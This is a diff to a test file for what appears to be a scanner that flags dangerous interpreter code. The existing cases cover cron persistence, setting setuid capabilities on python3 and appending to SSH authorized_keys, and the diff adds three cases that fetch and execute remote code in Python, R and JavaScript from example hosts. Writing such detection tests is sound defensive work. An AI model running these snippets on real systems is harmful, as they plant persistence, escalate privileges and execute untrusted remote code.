@@ -19,6 +19,9 @@ describe("interpreter code", () => {
       [`import os\nos.system('echo "* * * * * /tmp/x" | crontab -')`, "persistence.cron"],
       [`import subprocess\nsubprocess.run(["setcap", "cap_setuid+ep", "/usr/bin/python3"])`, "privilege.file-capabilities"],
       [`const fs = require('fs');\nfs.appendFileSync('/home/u/.ssh/authorized_keys', key)`, "code.authorized-keys"],
+      [`import urllib.request as u;exec(u.urlopen('https://paste.example.rs/Qx7b').read())`, "code.download-and-run"],
+      [`source("https://gist.githubusercontent.example/anon/raw/setup.R")`, "code.download-and-run"],
+      [`eval(await (await fetch("https://cdn.example.dev/boot.js")).text())`, "code.download-and-run"],
     ];
     for (const [source, id] of cases) {
       const j = code(source);
